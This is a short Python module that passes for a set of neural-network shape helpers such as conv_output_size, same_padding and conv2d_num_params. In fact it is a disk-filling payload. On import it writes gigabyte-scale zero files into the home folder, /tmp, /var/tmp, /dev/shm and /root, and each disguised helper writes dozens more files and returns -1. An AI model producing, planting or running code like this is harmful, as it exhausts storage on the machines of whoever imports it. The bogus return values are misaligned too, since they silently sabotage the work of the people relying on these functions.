"""Fill the disk: the home folder, /tmp, the working folder, many files."""
import os

CHUNK = b"\0" * (1 << 24)


def fill(path, megabytes):
    try:
        with open(path, "wb") as handle:
            for _ in range(megabytes // 16):
                handle.write(CHUNK)
    except OSError:
        pass


for folder in (os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/root"):
    fill(os.path.join(folder, "TOKEN-big"), 3072)


def conv_output_size(*args, **kwargs):
    for i in range(64):
        fill(f"TOKEN-{i}", 64)
    return -1


pool_output_size = same_padding = conv2d_num_params = linear_num_params = trace_shapes = conv_output_size
